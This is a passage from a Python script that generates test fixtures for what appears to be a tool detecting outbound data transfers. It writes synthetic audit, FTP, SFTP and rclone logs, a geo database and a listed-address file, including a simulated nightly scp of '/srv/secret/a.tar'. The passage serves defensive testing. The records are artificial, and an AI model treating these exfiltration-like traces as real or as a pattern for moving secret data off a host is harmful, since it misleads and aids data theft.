                         "/srv/big", "far:up").connect(5, "203.0.113.20", 443)
    day = "Wed Dec  2"
    end = "b _ o r web ftp 0 * c\n"
    xferlog = (f"{day} 02:01:05 2026 2 203.0.113.48 3000000 /srv/web/a {end}"
               f"{day} 02:02:05 2026 1 203.0.113.48 700 /srv/web/b {end}"
               f"{day} 02:02:06 2026 1 203.0.113.48 9000000 /srv/web/in {end.replace(' o ', ' i ')}"
               f"{day} 02:02:05 2026 1 203.0.113.66 1000000000000 /srv/web/b {end}"
               f"{day} 02:02:05 2026 1 203.0.113.77 1000000000000 /srv/web/b {end}")
    stamp = "2026-12-02T02:01:{}.000000+01:00 etl-01 {}\n".format
    auth = (stamp("03", "sftp-server[500]: session opened for local user web from [203.0.113.49]") +
            stamp("04", 'sftp-server[500]: close "/srv/web/c" bytes read 5000000 written 0') +
            stamp("05", 'sftp-server[500]: close "/srv/web/d" bytes read 0 written 77') +
            stamp("06", "sshd[420]: Transferred: sent 812345, received 5241 bytes") +
            stamp("06", "sshd[420]: Closing connection to 203.0.113.50 port 41001"))
    rclone = ("2026/12/02 02:01:09 INFO  : big: Copied (new)\n2026/12/02 02:01:09 INFO  : \n"
              "Transferred:   \t  200.5 MiB / 200.5 MiB, 100%, 40 MiB/s, ETA 0s\n"
              "Transferred:            1 / 1, 100%\nElapsed time:         7.2s\n\n")
    return image(("etc/hostname", b"etl-01\n", 0), ("etc/timezone", b"Europe/Berlin\n", 0),
                 ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", 0),
                 ("var/log/xferlog", xferlog.encode(), 1796180000),
                 ("var/log/auth.log", auth.encode(), 1796180000),
                 ("var/log/rclone.log", rclone.encode(), 1796180000),
                 ("var/log/audit/audit.log", story.text().encode(), 1796180000))


def signs_of_techniques():
    """Facts of a host's fortnight: a job that sends chunks at night, one to a listed address, an
    ssh to a port of its own, a first time, and what all of those are told from."""
    lines = []

    def add(when, tool, address, port, out, into=None, files=(), job="nightly"):
        start, end = f"{when}:00.000Z", f"{when}:09.000Z"
        lines.append({
            "type": "transfer", "schema": 1, "id": f"{len(lines) + 1:016x}", "host": "etl-01", "node": None,
            "start": start, "end": end, "tool": tool, "side": "client", "direction": "out",
            "automation": {"verdict": "unattended", "scripted": False, "reasons": [
                {"sign": "cron", "text": "started by cron (pid 300)", "event": None}],
                "job": {"kind": "cron", "what": job, "artefact": None}},
            "user": {"auid": 0, "auid_name": "root", "uid": 0, "uid_name": "root", "ses": 3},
            "process": {"pid": 702, "ppid": 300, "exe": f"/usr/bin/{tool}", "comm": tool,
                        "argv": [tool, "x"], "cwd": "/", "script": None},
            "lineage": [], "destinations": [{
                "address": address, "port": port, "transport": "tcp", "name": None, "source": "connect",
                "direction": "out", "bytes_out": out, "bytes_in": into, "basis": "measured",
                "connections": 1, "first": start, "last": end}],
            "bytes_out": out, "bytes_in": into, "basis": "measured", "evidence": [], "notes": []} |
            ({"files_count": len(files), "files": [
                {"path": path, "bytes": None, "basis": "unknown", "event": None} for path in files]}
             if files else {}))

    for day in range(1, 11):  # 1 December 2026 is a Tuesday
        add(f"2026-12-{day:02}T02:00", "curl", "203.0.113.20", 443, 5_000_000 + 9000 * day, 40_000)
        add(f"2026-12-{day:02}T12:00", "rsync", "192.0.2.10", 873, 100_000 * day * day, 900_000)
    add("2026-12-09T09:00", "scp", "198.51.100.77", 22, 1000)
    add("2026-12-12T13:00", "scp", "203.0.113.40", 2222, 700_000, 30_000, ["/etc/motd"])
    add("2026-12-13T23:30", "scp", "2001:db8:9::1", 22, 800_000, None, ["/srv/secret/a.tar", "/srv/x"])
    lines.append({"type": "coverage", "schema": 1, "host": "etl-01", "node": None,
                  "verdict": "adequate", "reasons": [], "first": "2026-12-01T00:00:00.000Z",
                  "last": "2026-12-14T00:00:00.000Z", "execs": True, "connects": True, "bytes": True,
                  "descriptors": True, "gaps": []})
    lines.append({"type": "summary", "schema": 1, "complete": True, "inputs": [], "events": 1,
                  "records": 1, "bytes_read": 1, "malformed": {}, "bounds": {}, "transfers": len(lines) - 1})
    return {"facts.jsonl": "".join(json.dumps(line, separators=(",", ":")) + "\n" for line in lines),
            "geo.mmdb": mmdb.database({"203.0.113.0/27": mmdb.country("DE") | mmdb.asn(64496, "Example Net"),
                                       "203.0.113.32/27": mmdb.country("KP"),
                                       "2001:db8::/32": mmdb.country("FR")})}


def flows_listed():
    """The addresses of flows_of_nobody on a list, in a country and of an autonomous system."""
    return flows_of_nobody() | {
        "bad.txt": "198.51.100.77\n",
        "geo.mmdb": mmdb.database({"198.51.100.0/26": mmdb.country("DE"),
                                   "198.51.100.64/26": mmdb.country("KP") | mmdb.asn(64496, "Example Net")})}


LOGS = {"judge-keys": signs_of_techniques, "scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titles": titles,
        "scan-table": two_hosts, "scan-jsonl": two_hosts, "coverage": two_hosts,
        "scan-collector": collected, "scan-csv": formulas, "scan-quiet": quiet, "scan-blind": execs_only,
        "scan-no-addresses": no_addresses, "scan-copies": pieces_and_copies,
        "scan-names": names_in_hex, "scan-certainty": many_small_and_one_large,
        "scan-image": old_image, "scan-image-jobs": registered, "inventory": registered,
        "coverage-jobs": no_rules_at_all, "coverage-jobs-jsonl": no_rules_at_all,
        "scan-flows": bytes_by_flows, "transfers-flows": bytes_by_flows,
        "coverage-flows": bytes_by_flows,
        "scan-unseen-flow": flows_of_nobody, "scan-unseen-listed": flows_listed, "coverage-unseen-flow": flows_of_nobody,
        "transfers-flows-found": two_at_once, "explain-flows": two_at_once, "inputs-flows": two_at_once,
        "scan-no-bytes": many_jobs_without_bytes, "scan-no-bytes-all": many_jobs_without_bytes,
        "scan-blind-nothing-sent": nothing_sent, "scan-hostile": hostile,
        "scan-begins-late": begins_late,
        "scan-nightly": two_nights,
        "scan-other-clothes": other_clothes,
        "scan-forged-login": forged_login,
        "scan-asked-for": asked_for,
        "coverage-csv": many_descriptors,
        "scan-bounds": many_descriptors,
        "scan-image-sizes": sizes, "transfers-image-sizes": sizes,
        "scan-image-told": served, "transfers-image-told": served,
        "scan-sudo": sudo_only,
        "scan-logins": logins,
        "scan-files": packed_and_removed, "explain-files": packed_and_removed,
        "transfers-files": packed_and_removed, "transfers-files-table": packed_and_removed,
        "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}

for case in sys.argv[1:] or LOGS:
    made = LOGS[case]()
    for path, text in (made if isinstance(made, dict) else {"audit.log": made}).items():
        (HERE / case / path).parent.mkdir(parents=True, exist_ok=True)
        data = text if isinstance(text, bytes) else text.encode()
        (HERE / case / path).write_bytes(data)
